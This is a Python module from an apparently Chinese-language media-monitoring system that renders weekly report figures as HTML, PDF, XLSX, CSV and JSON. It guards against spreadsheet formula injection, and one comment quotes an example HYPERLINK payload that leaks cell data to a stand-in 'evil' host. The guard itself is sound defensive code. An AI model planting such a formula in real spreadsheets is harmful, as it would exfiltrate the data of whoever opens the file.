"""The weekly report's figures rendered as HTML (self-contained: charts inline, font embedded),
PDF (WeasyPrint, from that same HTML), XLSX (one sheet per table, numbers as numbers), CSV and
JSON. Nothing here computes a figure: that is `figures.weekly_figures`' job alone."""

from __future__ import annotations

import base64
import csv
import io
import json
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime, tzinfo
from pathlib import Path

import jinja2

from monitor.events.levels import LEVELS
from monitor.reports import charts
from monitor.reports.figures import NEGATIVE_AT, POSITIVE_BELOW
from monitor.reports.fonts import CjkFont
from monitor.reports.summary import weekly_summary

FORMATS = ("html", "pdf", "xlsx", "csv", "json")
MEDIA_TYPES = {
    "html": "text/html; charset=utf-8",
    "pdf": "application/pdf",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "csv": "text/csv; charset=utf-8",
    "items.csv": "text/csv; charset=utf-8",
    "json": "application/json",
}
STATUS_LABELS = {"new": "未确认", "acknowledged": "已确认", "resolved": "已处置", "noise": "误报",
                 "superseded": "已升级"}
KIND_LABELS = {"escalate": "升级", "downgrade": "降级", "close": "平息", "reopen": "重新打开", "anomaly": "声量异常",
               "prehistory": "关联此前热点"}
OVERVIEW_ROWS = [
    ("items", "采集信息（条）"), ("relevant_items", "涉我信息（条）"), ("negative_items", "负面信息（条）"),
    ("negative_share", "负面占比"), ("new_events", "新发事件（起）"), ("alerts", "预警（次）"),
]
TEMPLATE_FOLDER = Path(__file__).parent / "templates"
TEMPLATES = jinja2.Environment(
    loader=jinja2.FileSystemLoader(TEMPLATE_FOLDER),
    autoescape=True, undefined=jinja2.StrictUndefined, trim_blocks=True, lstrip_blocks=True,
)


@dataclass(frozen=True)
class ReportContext:
    labels: dict[str, str]  # level → 一级（蓝色）…
    zone: tzinfo
    font: CjkFont


def _local(zone: tzinfo) -> Callable[[str | None], str]:
    def local(value: str | None) -> str:
        if not value:
            return "—"
        return datetime.fromisoformat(value).astimezone(zone).strftime("%m-%d %H:%M")
    return local


def _number(value, key: str) -> str:
    if value is None:
        return "—"
    return f"{value:.1%}" if key == "negative_share" else f"{value:,}"


def _delta(value, key: str) -> str:
    if value is None:
        return "—"
    if key == "negative_share":
        return f"{value * 100:+.1f} 个百分点"
    return f"{value:+,.0f}"


def _minutes(figure: dict) -> str:
    if not figure["count"]:
        return "—"
    return f"{figure['median_minutes']:.0f} / {figure['p90_minutes']:.0f} 分钟（{figure['count']} 次）"


def _share(figure: dict) -> str:
    counts = f"{figure['within']} / {figure['late']} / {figure['pending']}"
    return counts if figure["share"] is None else f"{figure['share']:.0%}（{counts}）"


def _rate(figure: dict) -> str:
    counts = f"{figure['yes']} / {figure['no']} / {figure['undecided']}"
    return counts if figure["share"] is None else f"{figure['share']:.0%}（{counts}）"


def _verdict(value: bool | None, yes: str, no: str) -> str:
    return "尚未可判" if value is None else yes if value else no


def _handling(event: dict) -> str:
    handling = event["handling"]
    if handling is None:
        return "未预警"
    text = STATUS_LABELS.get(handling["status"], handling["status"])
    if handling["assignee"]:
        text += f"（{handling['assignee']}）"
    if handling["outcome"]:
        text += f"：{handling['outcome']}"
    return text


def _transition(labels: dict[str, str]) -> Callable[[dict], str]:
    def transition(step: dict) -> str:
        kind = KIND_LABELS.get(step["kind"], step["kind"])
        if step["to"] and step["from"] != step["to"]:
            before = labels.get(step["from"], "无") if step["from"] else "无"
            return f"{kind}：{before} → {labels[step['to']]}"
        return kind
    return transition


def report_title(figures: dict) -> str:
    return f"舆情监测周报（{figures['week']}）"


def _period(figures: dict) -> str:
    days = figures["daily"]
    return f"{days[0]['day']} 至 {days[-1]['day']}"


def render_html(figures: dict, context: ReportContext) -> str:
    labels = context.labels
    summary = figures.get("summary") or weekly_summary(figures, labels)
    static_text = "".join((TEMPLATE_FOLDER / name).read_text(encoding="utf-8") for name in ("weekly.html", "_head.html"))
    chart_words = " ".join([*labels.values(), *charts.TONE_LABELS.values(),
                            "每日涉我信息量（按倾向）涉我信息（条）预警级别分布事件（最高级别）预警次数全部负面"
                            "传播层级关键词分组媒体来源前十（条）0123456789-", charts.VOLUME_WORDS])
    # Every character the report can show: the font subset must hold each one.
    text = json.dumps(figures, ensure_ascii=False) + static_text + summary + chart_words + "".join(
        STATUS_LABELS.values()) + "".join(KIND_LABELS.values()) + "—→：（）、，。%+个百分点分钟次按时超时时限内•及时不及时准确有偏差尚未可判已填写待填写"  # • marks list items
    family, font_bytes = charts.report_font(context.font, text)
    with charts.chart_font(family, font_bytes):
        pictures = {
            "daily": charts.daily_volume(figures["daily"]),
            "levels": charts.level_distribution(
                figures["events_by_peak_level"], figures["overview"]["alerts_by_level"], labels),
            "tiers": charts.ranking(figures["tiers"], "传播层级", "涉我信息（条）") if figures["tiers"] else "",
            "outlets": charts.ranking(figures["outlets"], "媒体来源前十", "涉我信息（条）") if figures["outlets"] else "",
            "groups": charts.ranking(figures["keyword_groups"], "关键词分组", "命中信息（条）")
            if figures["keyword_groups"] else "",
            "volume": [charts.volume_band(volume, context.zone) for volume in figures.get("volume", [])],
        }
    environment = TEMPLATES.overlay()
    environment.filters.update(
        svg_data=lambda svg: "data:image/svg+xml;base64," + base64.b64encode(svg.encode("utf-8")).decode("ascii"),
        local=_local(context.zone), number=_number, delta=_delta, minutes=_minutes, share=_share,
        handling=_handling, transition=_transition(labels), rate=_rate, verdict=_verdict,
    )
    return environment.get_template("weekly.html").render(
        f=figures, title=report_title(figures), period=_period(figures), summary=summary, labels=labels,
        levels=list(reversed(LEVELS)), charts=pictures, overview_rows=OVERVIEW_ROWS, status_labels=STATUS_LABELS,
        font_base64=base64.b64encode(font_bytes).decode("ascii"),
        negative_at=NEGATIVE_AT, positive_below=POSITIVE_BELOW,
    )


def render_pdf(html: str) -> bytes:
    # Imported here: WeasyPrint loads Pango at import, which only the PDF needs.
    from weasyprint import HTML

    return HTML(string=html).write_pdf()


def render_json(figures: dict) -> bytes:
    return json.dumps(figures, ensure_ascii=False, indent=2).encode("utf-8")


EVENT_COLUMNS = ["id", "title", "peak_level", "level_now", "status", "first_outlet_name", "first_at",
                 "items_in_week", "items_total", "outlets", "negative_share", "handling_status", "assignee",
                 "outcome", "alerted_at", "acknowledged_at", "resolved_at"]
REVIEW_COLUMNS = ["event_id", "title", "peak_level", "resolved", "found_minutes", "found_in_time", "accurate",
                  "handled_in_time", "lessons_written", "link"]
ITEM_COLUMNS = ["id", "first_seen_at", "published_at", "outlet", "tier", "region", "title", "url",
                "negative_prob", "tone", "risk", "groups", "event_id"]


def event_rows(figures: dict) -> list[dict]:
    rows = []
    for event in figures["events"]:
        handling = event["handling"] or {}
        rows.append({
            **{key: event[key] for key in EVENT_COLUMNS if key in event},
            "handling_status": handling.get("status", ""), "assignee": handling.get("assignee") or "",
            "outcome": handling.get("outcome") or "", "alerted_at": handling.get("alerted_at") or "",
            "acknowledged_at": handling.get("acknowledged_at") or "", "resolved_at": handling.get("resolved_at") or "",
        })
    return rows


# Formula injection (OWASP "CSV Injection"): a spreadsheet reads a cell that starts with one of these
# as a formula, so a feed title =HYPERLINK("http://evil?leak="&A1,"…") would run in the duty
# office's Excel. Text is what the titles, names and notes of a report are, whoever wrote them.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _looks_like_formula(value: str) -> bool:
    return value.startswith(FORMULA_START) or value.lstrip(" \u3000").startswith(FORMULA_START[:4])


def defused(value):
    """A CSV field as text: prefixed with ' when a spreadsheet would take it for a formula. Numbers
    are not strings and stay numbers (-0.5 is a number, not an attack)."""
    if isinstance(value, str) and _looks_like_formula(value):
        return "'" + value
    return value


def render_csv(rows: list[dict], columns: list[str]) -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=columns, extrasaction="ignore", lineterminator="\r\n")
    writer.writeheader()
    writer.writerows({key: defused(value) for key, value in row.items()} for row in rows)
    # A byte-order mark: Excel, which most press offices open CSV with, otherwise reads GBK.
    return "\ufeff".encode() + out.getvalue().encode("utf-8")


def render_xlsx(figures: dict, items: list[dict], labels: dict[str, str]) -> bytes:
    from openpyxl import Workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
    from openpyxl.styles import Font

    book = Workbook()
    bold = Font(bold=True)

    def sheet(title: str, header: list[str], rows: list[list]) -> None:
        ws = book.create_sheet(title)
        ws.append(header)
        for cell in ws[1]:
            cell.font = bold
        for row in rows:
            # Control characters are not allowed in XLSX (openpyxl refuses the whole report).
            ws.append([ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v for v in row])
            for cell in ws[ws.max_row]:
                if isinstance(cell.value, str):
                    # openpyxl stores a string starting with = as a formula: store every string as
                    # a string, and mark formula-like ones quote-prefixed so that editing the cell
                    # in Excel keeps it text. The text itself is left as it was.
                    cell.data_type = "s"
                    if _looks_like_formula(cell.value):
                        cell.quotePrefix = True
        ws.freeze_panes = "A2"
        for column, name in zip(ws.columns, header):
            width = max([len(str(name)) * 2, *(min(len(str(c.value or "")), 60) for c in column)])
            ws.column_dimensions[column[0].column_letter].width = max(8, width + 2)

    book.remove(book.active)
    overview, before, change = figures["overview"], figures["previous_week"], figures["change"]
    sheet("概览", ["指标", "本周", "上周", "变化"],
          [[name, overview[key], before[key], change[key]] for key, name in OVERVIEW_ROWS]
          + [[f"预警：{labels[level]}", overview["alerts_by_level"][level], before["alerts_by_level"][level],
              change["alerts_by_level"][level]] for level in reversed(LEVELS)])
    sheet("每日", ["日期", "采集", "正面", "中性", "负面", "预警"],
          [[r["day"], r["items"], r["positive"], r["neutral"], r["negative"], r["alerts"]] for r in figures["daily"]])
    sheet("级别", ["级别", "事件（最高级别）", "预警次数"],
          [[labels[level], figures["events_by_peak_level"][level], overview["alerts_by_level"][level]]
           for level in reversed(LEVELS)])
    sheet("事件", EVENT_COLUMNS, [[row[c] for c in EVENT_COLUMNS] for row in event_rows(figures)])
    sheet("媒体", ["媒体", "层级", "涉我信息", "负面"], [[r["name"], r["tier"], r["items"], r["negative"]] for r in figures["outlets"]])
    sheet("层级", ["层级", "涉我信息", "负面"], [[r["name"], r["items"], r["negative"]] for r in figures["tiers"]])
    sheet("地区", ["地区", "涉我信息", "负面"], [[r["name"], r["items"], r["negative"]] for r in figures["regions"]])
    sheet("关键词", ["分组", "名称", "命中信息"], [[r["group"], r["name"], r["items"]] for r in figures["keyword_groups"]])
    duty = figures["duty"]
    handled = duty["urgent_handled_within_target"]
    sheet("值班", ["指标", "数值"], [
        ["预警总数", duty["alerts"]],
        ["发现时效中位（分钟）", duty["detection"]["median_minutes"]],
        ["发现时效90%（分钟）", duty["detection"]["p90_minutes"]],
        ["橙红确认中位（分钟）", duty["acknowledgement_urgent"]["median_minutes"]],
        ["橙红确认90%（分钟）", duty["acknowledgement_urgent"]["p90_minutes"]],
        ["确认时限（分钟）", handled["target_minutes"]],
        ["按时", handled["within"]], ["超时", handled["late"]], ["时限内待确认", handled["pending"]],
        ["按时处置率", handled["share"]], ["目标", handled["goal"]],
        # The three review measures (发现及时率、预警准确率、处置及时率) over the week's reviews (the 复盘 sheet lists them).
        *([rate["name"], rate["share"]] for rate in figures["reviews"]["rates"].values()),
        ["复盘事件", len(figures["reviews"]["events"])],
    ])
    urgent_columns = ["alert_id", "event_id", "level", "title", "status", "assignee", "outcome", "published_at",
                      "alerted_at", "acknowledged_at", "resolved_at", "detection_minutes", "ack_minutes", "within_target"]
    sheet("橙红预警", urgent_columns, [[a[c] for c in urgent_columns] for a in duty["urgent_alerts"]])
    sheet("复盘", REVIEW_COLUMNS, [[e[c] for c in REVIEW_COLUMNS] for e in figures["reviews"]["events"]])
    sheet("信息", ITEM_COLUMNS, [[row[c] for c in ITEM_COLUMNS] for row in items])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
